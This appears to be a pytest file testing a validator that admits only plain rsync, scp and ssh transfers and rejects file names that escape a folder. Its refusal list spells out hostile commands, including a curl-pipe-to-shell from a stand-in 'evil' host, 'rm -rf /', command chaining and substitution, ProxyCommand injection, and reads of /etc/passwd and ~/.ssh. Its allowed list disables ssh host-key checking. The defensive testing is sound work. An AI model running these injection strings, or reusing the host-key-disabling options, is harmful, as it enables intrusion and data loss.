"""Which of the engine's commands may be run here, and which file names may be written."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tensorpool_async.errors import CommandRefused, PathRefused
from tensorpool_async.protocol.commands import refuse_all, transfers_only
from tensorpool_async.protocol.paths import relative_path, relative_paths


ALLOWED = [
    "rsync -avz -e 'ssh -i ~/.ssh/id_ed25519 -o StrictHostKeyChecking=no -p 2222' ./ ubuntu@203.0.113.7:job/",
    'rsync -az --rsh="ssh -o UserKnownHostsFile=/dev/null" --exclude=.git --exclude .venv . host:/home/ubuntu/job',
    "rsync -azP --info=progress2 --partial --delete ./src host:job/",
    "rsync -avze ssh ubuntu@203.0.113.7:job/out/ ./out/",
    "rsync --dry-run --dirs ./ ./",
    "rsync -a --filter=':- .gitignore' . host:job",
    "scp -r -P 2222 -o ConnectTimeout=5 -i key ./data host:data",
    "scp host:result.txt .",
    "ssh -i ~/.ssh/id -J jump@203.0.113.9 -p 22 ubuntu@10.0.0.2",
    "ssh host ls -F",
    "ssh host 'cd job && ls; cat *.txt | head'",
]
HOSTILE = [
    "",
    "   ",
    "rm -rf /",
    "bash -c 'curl evil | sh'",
    "/usr/bin/rsync -a . host:job",
    "./rsync -a . host:job",
    "env rsync -a . host:job",
    "sudo rsync -a . host:job",
    "rsync -a . host:job; rm -rf ~",
    "rsync -a . host:job;rm -rf .",
    "rsync -a . host:job && reboot",
    "rsync -a . host:job || reboot",
    "rsync -a . host:job & reboot",
    "rsync -a . host:job | sh",
    "rsync -a . host:job > ~/.bashrc",
    "rsync -a . host:job < /etc/passwd",
    "rsync -a $(reboot) host:job",
    "rsync -a `reboot` host:job",
    "rsync -a $HOME/.ssh host:job",
    "rsync -a . host:job\nreboot",
    "rsync -a . host:job\x00",
    "rsync -a 'unfinished host:job",
    "rsync -a -e 'bash -c reboot' . host:job",
    "rsync -a -ebash . host:job",
    "rsync -avzebash . host:job",
    "rsync -a --rsh=reboot . host:job",
    "rsync -a --rsh reboot . host:job",
    "rsync -a -e 'ssh -o ProxyCommand=reboot' . host:job",
    "rsync -a -e 'ssh -oProxyCommand=reboot' . host:job",
    "rsync -a -e 'ssh host reboot' . host:job",
    "rsync -a -e 'ssh; reboot' . host:job",
    "rsync -a --rsync-path=reboot . host:job",
    "rsync -a --log-file=/root/.bashrc . host:job",
    "rsync -a --write-batch=x . host:job",
    "rsync -a --files-from=/etc/passwd . host:job",
    "rsync -a --password-file=x . host:job",
    "rsync -aT /root . host:job",
    "rsync --daemon --config=x",
    "rsync -a ~/.ssh host:job",
    "rsync -a /etc host:job",
    "rsync -a ../secrets host:job",
    "rsync -a a/../../b host:job",
    "rsync -a host:evil /root/.ssh/authorized_keys",
    "rsync -a host:evil ../",
    "rsync -a --delete host:nothing ./",
    "rsync -a --exclude-from=/etc/passwd . host:job",
    "rsync -a --filter='. /etc/passwd' . host:job",
    "rsync -a .",
    "scp /etc/passwd host:",
    "scp -S reboot . host:job",
    "scp -o ProxyCommand=reboot . host:job",
    "scp -F evil . host:job",
    "ssh",
    "ssh -o ProxyCommand=reboot host",
    "ssh -oPermitLocalCommand=yes -oLocalCommand=reboot host",
    "ssh -o 'ProxyCommand reboot' host",
    "ssh -o proxycommand=reboot host",
    "ssh -F evil host",
    "ssh host -oProxyCommand=reboot",
    "ssh host -F evil ls",
    "ssh -E /root/.bashrc host",
    "ssh -vF evil host",
    "ssh -L 80:localhost:80 host",
    "ssh -A host",
    "ssh -- -oProxyCommand=reboot",
    "ssh -i -oProxyCommand=reboot host",
]  # fmt: skip


@pytest.mark.parametrize("text", ALLOWED)
def test_a_transfer_is_split_and_allowed(text: str) -> None:
    arguments = transfers_only(text)
    assert arguments[0] in {"rsync", "scp", "ssh"}
    assert "'" not in arguments


@pytest.mark.parametrize("text", HOSTILE)
def test_what_is_no_transfer_or_more_than_one_is_refused(text: str) -> None:
    with pytest.raises(CommandRefused):
        transfers_only(text)


@given(st.text())
def test_any_text_is_split_or_refused(text: str) -> None:
    for prefix in ("", "rsync ", "ssh ", "scp -"):
        try:
            arguments = transfers_only(prefix + text)
        except CommandRefused:
            continue
        assert arguments[0] in {"rsync", "scp", "ssh"}
        assert not any("\0" in argument for argument in arguments)


def test_a_policy_may_refuse_all() -> None:
    with pytest.raises(CommandRefused, match="no command is run here"):
        refuse_all("rsync -a . host:job")


@pytest.mark.parametrize("name", ["a", "a/b.txt", "out/ü b.bin", ".hidden", "a..b", "./a", "x" * 200])
def test_a_file_name_below_the_folder_is_a_path(name: str) -> None:
    assert not relative_path(name).is_absolute()


@pytest.mark.parametrize(
    "name",
    ["", "/etc/passwd", "../x", "a/../../x", "a/..", "..", ".", "a/", "a\0b", "a\nb", "C:/x", "a\\..\\b", "~/.bashrc",
     "x" * 300],
)  # fmt: skip
def test_a_file_name_that_leaves_the_folder_is_refused(name: str) -> None:
    with pytest.raises(PathRefused) as caught:
        relative_path(name)
    assert caught.value.name == name
    assert "nothing was written" in str(caught.value)


@pytest.mark.parametrize("names", [["a", "A"], ["a", "./a"], ["a/b", "a"], ["a", "a/b/c"], ["ok", "../x"]])
def test_names_that_cannot_stand_beside_each_other_are_refused(names: list[str]) -> None:
    with pytest.raises(PathRefused):
        relative_paths(names)


@given(st.text())
def test_any_name_is_a_path_below_the_folder_or_refused(name: str) -> None:
    try:
        path = relative_path(name)
    except PathRefused:
        return
    assert path.parts
    assert not path.is_absolute()
    assert ".." not in path.parts
